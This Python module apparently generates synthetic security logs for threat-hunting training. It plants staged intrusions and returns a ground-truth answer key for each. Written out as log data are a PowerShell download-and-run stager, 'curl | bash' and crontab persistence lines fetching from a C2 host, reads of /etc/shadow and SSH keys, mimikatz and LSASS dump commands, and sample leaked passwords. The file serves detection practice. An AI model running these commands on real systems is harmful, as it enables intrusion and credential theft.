"""The planted attack stories. Each function writes its rows and returns its ground truth: a
dict with id, title, what a hunter should find (hosts, accounts, times, IoCs) and the tables
holding the evidence. Times are fixed offsets from the workspace's end, so they are stable.

The intrusion: a password spray from SPRAY_IP takes over a cloud account; a macro document
on WS-FIN-07 launches encoded PowerShell that talks to C2_DOMAIN / C2_IP; the attacker dumps
credentials there, moves to the domain controller, creates an account and clears the log;
a Linux web server runs base64-piped shell commands fetching from the same C2; secrets leak
in command lines across the estate; and one user's SharePoint downloads spike.
"""

import base64
import datetime as _dt

from .alerts import Entities, security_alert
from .cloud_events import azure_activity, office_activity, sharepoint_file, signin
from .linux_events import execve
from .network_events import dns_query, firewall, ti_indicator, vm_connection
from .windows_activity import failed_logon, interactive_session, logon, special_privileges
from .windows_events import Process, file_hashes, security_event
from .world import DOMAIN, iso

__all__ = ["plant_stories", "SPRAY_IP", "C2_IP", "C2_DOMAIN"]

SPRAY_IP = "193.142.146.35"
C2_IP = "45.137.21.9"
C2_DOMAIN = "update-msoffice-cdn.com"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_SPRAY_AGENT = "python-requests/2.31.0"


def _password_spray(world):
    rng = world.rng
    victim = world.users[9]
    targets = world.users[:32]
    start = world.at(9, 2, 10)
    when = start
    failures = 0
    for round_index in range(3):
        when = start + _dt.timedelta(hours=round_index)
        for user in targets:
            when += _dt.timedelta(seconds=rng.uniform(20, 45))
            if round_index == 2 and user is victim:
                break
            signin(world, when, user, SPRAY_IP, 50126, user_agent=_SPRAY_AGENT, country="NL",
                   city="Amsterdam", client_app="Other clients")
            failures += 1
    success_time = when + _dt.timedelta(seconds=30)
    signin(world, success_time, victim, SPRAY_IP, 0, user_agent=_SPRAY_AGENT, country="NL",
           city="Amsterdam", client_app="Other clients")
    # the same spray against the internet-facing RDP gateway
    gateway = world.host("RDS-GW01")
    windows_start = world.at(9, 3, 40)
    when = windows_start
    names = [u.sam for u in targets[:24]] + ["administrator", "admin"]
    for name in names:
        when += _dt.timedelta(seconds=rng.uniform(3, 9))
        failed_logon(world, gateway, when, name, SPRAY_IP,
                     sub_status="0xc0000064" if name in ("administrator", "admin") else "0xc000006a",
                     workstation="kali")
    rdp_time = when + _dt.timedelta(minutes=2)
    logon(world, gateway, rdp_time, victim, 10, ip=SPRAY_IP, workstation="kali")
    # what the attacker did with the account
    azure_time = success_time + _dt.timedelta(minutes=25)
    azure_activity(world, azure_time, victim.upn, SPRAY_IP,
                   "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE", "Create role assignment",
                   "prod-rg", "roleAssignments/7f3c0a0e-5b2a-4c55-9c3e-44d0a1f2b9aa",
                   "Microsoft.Authorization",
                   properties={"roleDefinition": "Owner", "principal": victim.upn})
    azure_activity(world, azure_time + _dt.timedelta(minutes=4), victim.upn, SPRAY_IP,
                   "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
                   "List Storage Account Keys", "prod-rg", "storageAccounts/contosoappdata",
                   "Microsoft.Storage")
    rule_time = success_time + _dt.timedelta(minutes=12)
    office_activity(world, rule_time, victim, "New-InboxRule", "Exchange", SPRAY_IP,
                    "ExchangeAdmin", Parameters='[{"Name":"ForwardTo","Value":'
                    '"j.lopez.archive@proton.me"},{"Name":"Name","Value":"sync"}]',
                    OfficeObjectId=victim.upn + "\\sync")
    entities = Entities()
    entities.account(victim)
    entities.ip(SPRAY_IP)
    security_alert(world, success_time + _dt.timedelta(minutes=3),
                   "Password spray followed by successful sign-in", "High",
                   f"{failures} failed sign-ins across {len(targets)} accounts from one address, "
                   "then a success.", entities, victim.upn, "CredentialAccess,InitialAccess",
                   ["T1110.003", "T1078"], product="Azure Sentinel")
    return {
        "id": "password_spray",
        "title": "Password spray, then a successful sign-in and RDP logon",
        "tables": ["SigninLogs", "SecurityEvent", "AzureActivity", "OfficeActivity",
                   "SecurityAlert"],
        "attacker_ip": SPRAY_IP,
        "compromised_account": victim.sam, "compromised_upn": victim.upn,
        "sprayed_accounts": len(targets), "failed_signins": failures,
        "start": iso(start), "success_time": iso(success_time),
        "host": gateway.fqdn, "windows_failed_logons": len(names),
        "windows_start": iso(windows_start), "rdp_logon_time": iso(rdp_time),
        "azure_operations": ["MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                             "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION"],
        "inbox_rule_forward_to": "j.lopez.archive@proton.me",
    }


def _encode_powershell(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _office_macro(world, processes):
    host = world.host("WS-FIN-07")
    user = host.user
    start = world.at(6, 9, 2)
    explorer = interactive_session(world, processes, host, user, start)
    office = r"C:\Program Files\Microsoft Office\root\Office16"
    outlook = processes.launch(start + _dt.timedelta(minutes=5), explorer,
                               office + r"\OUTLOOK.EXE", f'"{office}\\OUTLOOK.EXE" /recycle')
    attachment = (f"C:\\Users\\{user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                  "Content.Outlook\\X7Q2LM1B\\Invoice_88231.docm")
    processes.create_file(start + _dt.timedelta(minutes=11), outlook, attachment)
    word_time = start + _dt.timedelta(minutes=12)
    word = processes.launch(word_time, outlook, office + r"\WINWORD.EXE",
                            f'"{office}\\WINWORD.EXE" /n "{attachment}" /o ""')
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/js/a.ps1')"
    encoded = _encode_powershell(script)
    ps_time = word_time + _dt.timedelta(seconds=41)
    powershell = processes.launch(ps_time, word, _POWERSHELL,
                                  f"powershell.exe -NoP -W Hidden -Enc {encoded}")
    dns_query(world, ps_time + _dt.timedelta(seconds=1), host, C2_DOMAIN, C2_IP)
    processes.connect(ps_time + _dt.timedelta(seconds=2), powershell, C2_IP, 80, C2_DOMAIN)
    firewall(world, ps_time + _dt.timedelta(seconds=2), host.ip, C2_IP, 80,
             application="web-browsing", sent=612, received=48213,
             url=f"http://{C2_DOMAIN}/js/a.ps1", user=f"{DOMAIN.lower()}\\{user.sam}")
    recon = []
    for offset, image, command in (
            (60, r"C:\Windows\System32\whoami.exe", "whoami /all"),
            (75, r"C:\Windows\System32\net.exe", 'net group "Domain Admins" /domain'),
            (90, r"C:\Windows\System32\nltest.exe", "nltest /dclist:contoso.local")):
        recon.append(processes.launch(ps_time + _dt.timedelta(seconds=offset), powershell,
                                      image, command).command_line)
    entities = Entities()
    host_ref = entities.host(host)
    account_ref = entities.account(user, host_ref)
    entities.process(powershell, host_ref, account_ref)
    entities.ip(C2_IP)
    entities.dns(C2_DOMAIN)
    security_alert(world, ps_time, "Suspicious PowerShell launched by an Office application",
                   "High", "WINWORD.EXE started PowerShell with an encoded command that "
                   "downloads and runs a script.", entities, host.name, "Execution",
                   ["T1059.001", "T1204.002"], host=host,
                   properties={"ParentProcess": "WINWORD.EXE", "ProcessId": str(powershell.pid)})
    truth = {
        "id": "office_encoded_powershell",
        "title": "Encoded PowerShell launched by Word from a macro document",
        "tables": ["SecurityEvent", "Event", "DnsEvents", "CommonSecurityLog", "SecurityAlert"],
        "host": host.fqdn, "account": user.sam, "parent_process": "WINWORD.EXE",
        "time": iso(ps_time), "process_id": hex(powershell.pid),
        "command_line": powershell.command_line, "encoded_command": encoded,
        "decoded_command": script, "attachment": attachment, "c2_domain": C2_DOMAIN,
        "c2_ip": C2_IP, "recon_commands": recon,
    }
    return truth, powershell


def _credential_dumping(world, processes, powershell):
    host = powershell.host
    start = world.at(6, 10, 2)
    lsass = Process(host, 688, r"C:\Windows\System32\lsass.exe",
                    r"C:\Windows\system32\lsass.exe", None, "0x3e7", "{" + world.guid() + "}",
                    None, world.start)
    dump_path = r"C:\Users\Public\lsass.dmp"
    procdump = processes.launch(start, powershell, r"C:\Users\Public\procdump64.exe",
                                r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe "
                                + dump_path, elevated=True)
    processes.access(start + _dt.timedelta(seconds=1), procdump, lsass, "0x1fffff")
    processes.create_file(start + _dt.timedelta(seconds=4), procdump, dump_path)
    comsvcs = processes.launch(start + _dt.timedelta(minutes=6), powershell,
                               r"C:\Windows\System32\rundll32.exe",
                               r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 "
                               r"C:\Users\Public\out.dmp full", elevated=True)
    processes.access(start + _dt.timedelta(minutes=6, seconds=1), comsvcs, lsass, "0x1fffff")
    mimikatz_image = r"C:\Users\Public\m64.exe"
    mimikatz = processes.launch(start + _dt.timedelta(minutes=9), powershell, mimikatz_image,
                                mimikatz_image + ' "privilege::debug" "sekurlsa::logonpasswords" '
                                'exit', elevated=True)
    processes.access(start + _dt.timedelta(minutes=9, seconds=1), mimikatz, lsass, "0x1010")
    mimikatz_sha256 = file_hashes(mimikatz_image)["SHA256"]
    # lateral movement with the dumped admin credentials, persistence, and cleanup
    admin = world.admin
    dc = world.host("DC01")
    lateral_time = start + _dt.timedelta(minutes=17)
    logon_id = logon(world, dc, lateral_time, admin, 3, ip=host.ip, workstation=host.name,
                     package="NTLM")
    special_privileges(world, dc, lateral_time, admin, logon_id)
    new_account = "svc_update"
    password = "Upd@te2024!"
    parent = processes.root(dc)
    net_time = lateral_time + _dt.timedelta(minutes=1)
    processes.launch(net_time, parent, r"C:\Windows\System32\net.exe",
                     f"net user {new_account} {password} /add /domain", user=admin,
                     logon_id=logon_id, elevated=True)
    new_sid = "S-1-5-21-3623811015-3361044348-30300820-9321"
    world.emit("SecurityEvent", security_event(
        dc, net_time + _dt.timedelta(seconds=1), 4720, admin.account, TargetUserName=new_account,
        TargetDomainName=DOMAIN, TargetSid=new_sid, SamAccountName=new_account,
        SubjectUserName=admin.sam, SubjectDomainName=DOMAIN, SubjectUserSid=admin.sid,
        SubjectLogonId=logon_id, UserAccountControl="%%2080"))
    world.emit("SecurityEvent", security_event(
        dc, net_time + _dt.timedelta(seconds=30), 4732, admin.account,
        MemberName=f"CN={new_account},CN=Users,DC=contoso,DC=local", MemberSid=new_sid,
        TargetUserName="Administrators", TargetDomainName="Builtin", TargetSid="S-1-5-32-544",
        SubjectUserName=admin.sam, SubjectDomainName=DOMAIN, SubjectUserSid=admin.sid,
        SubjectLogonId=logon_id))
    clear_time = start + _dt.timedelta(minutes=41)
    world.emit("SecurityEvent", security_event(
        host, clear_time, 1102, host.user.account, SubjectUserName=host.user.sam,
        SubjectDomainName=DOMAIN, SubjectUserSid=host.user.sid,
        SubjectLogonId=powershell.logon_id))
    entities = Entities()
    host_ref = entities.host(host)
    account_ref = entities.account(host.user, host_ref)
    entities.process(procdump, host_ref, account_ref)
    entities.process(mimikatz, host_ref, account_ref)
    entities.file_hash("SHA256", mimikatz_sha256)
    security_alert(world, start, "Credential dumping from LSASS memory", "High",
                   "Processes opened lsass.exe with full access and wrote a memory dump.",
                   entities, host.name, "CredentialAccess", ["T1003.001"], host=host,
                   duration=_dt.timedelta(minutes=10))
    return {
        "id": "credential_dumping",
        "title": "LSASS credential dumping, lateral movement, new admin account, log cleared",
        "tables": ["SecurityEvent", "Event", "SecurityAlert"],
        "host": host.fqdn, "account": host.user.sam, "time": iso(start),
        "tools": ["procdump64.exe", "rundll32.exe comsvcs.dll MiniDump", "m64.exe (mimikatz)"],
        "command_lines": [procdump.command_line, comsvcs.command_line, mimikatz.command_line],
        "lsass_pid": lsass.pid, "dump_file": dump_path, "mimikatz_sha256": mimikatz_sha256,
        "lateral_host": dc.fqdn, "lateral_account": admin.sam, "lateral_time": iso(lateral_time),
        "created_account": new_account, "created_account_group": "Administrators",
        "log_cleared_time": iso(clear_time),
    }


def _linux_base64(world):
    host = world.host("web-lnx-02")
    start = world.at(4, 22, 15)
    decoded = [
        f"curl -fsSL http://{C2_IP}/x.sh | bash",
        f"(crontab -l; echo '*/10 * * * * curl -s http://{C2_DOMAIN}/k | sh') | crontab -",
        "cat /etc/shadow; cat /var/www/.ssh/id_rsa",
    ]
    encoded = [base64.b64encode(text.encode()).decode() for text in decoded]
    command_lines = [
        f"bash -c echo {encoded[0]} | base64 -d | bash",
        f"sh -c echo {encoded[1]} | base64 --decode | sh",
        f"bash -c echo -n {encoded[2]} | base64 -d | bash",
    ]
    times = []
    for index, command in enumerate(command_lines):
        when = start + _dt.timedelta(minutes=3 * index, seconds=7)
        execve(world, host, when, "www-data", "/usr/bin/bash" if command.startswith("bash")
               else "/usr/bin/sh", command, ppid=1873, cwd="/var/www/html")
        times.append(iso(when))
    dns_query(world, start + _dt.timedelta(seconds=8), host, C2_DOMAIN, C2_IP)
    vm_connection(world, start + _dt.timedelta(seconds=8), host, "curl", C2_IP, 80, 740, 18220,
                  remote_country="Netherlands", malicious=C2_IP, threat_type="Botnet")
    entities = Entities()
    entities.host(host)
    entities.ip(C2_IP)
    security_alert(world, start, "Suspicious base64-encoded shell command", "Medium",
                   "A web server account decoded a base64 payload and piped it to a shell.",
                   entities, host.name, "Execution,Persistence", ["T1059.004", "T1140"],
                   product="Azure Sentinel", host=host)
    return {
        "id": "linux_base64_commands",
        "title": "base64-piped shell commands on a Linux web server (auditd)",
        "tables": ["Syslog", "VMConnection", "DnsEvents", "SecurityAlert"],
        "host": host.name, "account": "www-data", "times": times,
        "command_lines": command_lines, "decoded_commands": decoded, "c2_ip": C2_IP,
        "c2_domain": C2_DOMAIN,
    }


def _secrets(world, processes):
    leaks = []

    def windows(host_name, days, hour, user, image, command, kind, secret):
        host = world.host(host_name)
        when = world.at(days, hour, 17)
        explorer = interactive_session(world, processes, host, user, when - _dt.timedelta(
            minutes=4), logon_type=10 if host.role != "workstation" else 2)
        processes.launch(when, explorer, image, command)
        leaks.append({"host": host.fqdn, "account": user.sam, "time": iso(when), "kind": kind,
                      "secret": secret, "table": "SecurityEvent"})

    def linux(host_name, days, hour, user, exe, command, kind, secret):
        host = world.host(host_name)
        when = world.at(days, hour, 33)
        execve(world, host, when, user, exe, command, cwd="/home/" + user)
        leaks.append({"host": host.name, "account": user, "time": iso(when), "kind": kind,
                      "secret": secret, "table": "Syslog"})

    aws_key, aws_secret = "AKIA2HUNTBOOKSAMPLE7", "hB7nq2Wv9XkL0pQz5Rt8Yc3Md6Fs1Ga4Je0Ui9Ko"
    windows("WS-ENG-11", 12, 14, world.host("WS-ENG-11").user, r"C:\Program Files\Amazon\AWSCLIV2\aws.exe",
            f"aws configure set aws_access_key_id {aws_key}", "aws_access_key_id", aws_key)
    windows("WS-ENG-11", 12, 15, world.host("WS-ENG-11").user, r"C:\Program Files\Amazon\AWSCLIV2\aws.exe",
            f"aws configure set aws_secret_access_key {aws_secret}", "aws_secret_access_key",
            aws_secret)
    windows("SQL01", 15, 11, world.admin, r"C:\Program Files\Microsoft SQL Server\Client SDK\ODBC"
            r"\170\Tools\Binn\SQLCMD.EXE", 'sqlcmd -S SQL01 -U sa -P "Winter2024!Sql" -Q '
            '"BACKUP DATABASE app TO DISK=\'D:\\bak\\app.bak\'"', "password", "Winter2024!Sql")
    connection = ("Server=tcp:contoso-sql.database.windows.net,1433;Database=app;"
                  "User ID=appadmin;Password=Pr0d-S3cret#42;Encrypt=True;")
    windows("WS-ENG-14", 8, 10, world.host("WS-ENG-14").user, _POWERSHELL,
            f"powershell.exe -Command \"Invoke-Sqlcmd -ConnectionString '{connection}' "
            "-Query 'SELECT 1'\"", "connection_string", "Pr0d-S3cret#42")
    linux("db-lnx-01", 10, 16, "deploy", "/usr/bin/mysql",
          "mysql -u root -pR00tPassw0rd! -e show databases", "password", "R00tPassw0rd!")
    linux("web-lnx-01", 7, 9, "deploy", "/usr/bin/curl",
          "curl -u deploy:D3ploy-Token-99 https://repo.contoso.local/api/artifacts", "password",
          "D3ploy-Token-99")
    leaks.append({"host": world.host("DC01").fqdn, "account": world.admin.sam,
                  "time": None, "kind": "password", "secret": "Upd@te2024!",
                  "table": "SecurityEvent", "note": "net user /add by the intruder"})
    return {"id": "secrets_in_command_lines",
            "title": "Secrets leaked in command lines (AWS keys, passwords, connection strings)",
            "tables": ["SecurityEvent", "Event", "Syslog"], "leaks": leaks}


def _download_spike(world):
    rng = world.rng
    user = world.host("WS-FIN-07").user
    start = world.at(5, 19, 3)
    count = 380
    for index in range(count):
        when = start + _dt.timedelta(seconds=index * 9 + rng.uniform(0, 3))
        sharepoint_file(world, when, user, "FileDownloaded", C2_IP,
                        f"FIN-{index:04d}-statement.pdf", site="Finance")
    return {
        "id": "download_spike",
        "title": "Anomalous spike of SharePoint downloads by one user from the C2 address",
        "tables": ["OfficeActivity"], "account": user.sam, "upn": user.upn,
        "operation": "FileDownloaded", "start": iso(start),
        "end": iso(start + _dt.timedelta(seconds=count * 9 + 3)), "downloads": count,
        "client_ip": C2_IP, "series": "OfficeActivity FileDownloaded per user per hour",
    }


def _threat_intel(world, mimikatz_sha256):
    when = world.at(20, 8)
    indicators = [
        ("NetworkIP", C2_IP, "C2", "Cobalt-style C2 server seen in macro campaigns"),
        ("DomainName", C2_DOMAIN, "C2", "Typosquatted Office CDN domain used for payloads"),
        ("NetworkIP", SPRAY_IP, "Scanner", "Password-spray infrastructure"),
        ("FileHashValue", mimikatz_sha256, "Malware", "Mimikatz build (renamed m64.exe)"),
        ("Url", f"http://{C2_DOMAIN}/js/a.ps1", "C2", "PowerShell stager URL"),
    ]
    for field, value, threat, description in indicators:
        extra = {field: value}
        if field == "FileHashValue":
            extra["FileHashType"] = "SHA256"
        ti_indicator(world, when, threat, description, 90, 5, **extra)
    return {
        "id": "threat_intel_match",
        "title": "Workspace activity matching threat-intelligence indicators",
        "tables": ["ThreatIntelligenceIndicator", "DnsEvents", "CommonSecurityLog",
                   "VMConnection", "SigninLogs", "OfficeActivity", "Event"],
        "indicators": [{"field": f, "value": v, "threat_type": t} for f, v, t, _ in indicators],
        "matched_ips": [C2_IP, SPRAY_IP], "matched_domains": [C2_DOMAIN],
        "matched_hashes": [mimikatz_sha256],
    }


def plant_stories(world, processes):
    stories = [_password_spray(world)]
    macro, powershell = _office_macro(world, processes)
    stories.append(macro)
    dumping = _credential_dumping(world, processes, powershell)
    stories.append(dumping)
    stories.append(_linux_base64(world))
    stories.append(_secrets(world, processes))
    stories.append(_download_spike(world))
    stories.append(_threat_intel(world, dumping["mimikatz_sha256"]))
    return stories
